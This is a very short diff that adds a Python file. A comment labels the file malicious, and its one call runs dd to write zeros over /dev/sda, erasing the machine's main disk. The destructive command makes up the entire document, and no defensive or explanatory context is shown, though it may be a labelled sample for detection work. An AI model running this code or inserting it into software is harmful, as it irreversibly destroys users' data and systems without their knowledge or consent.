@@ -1,0 +1,3 @@
+# malicious: overwrites the disk
+import subprocess
+subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
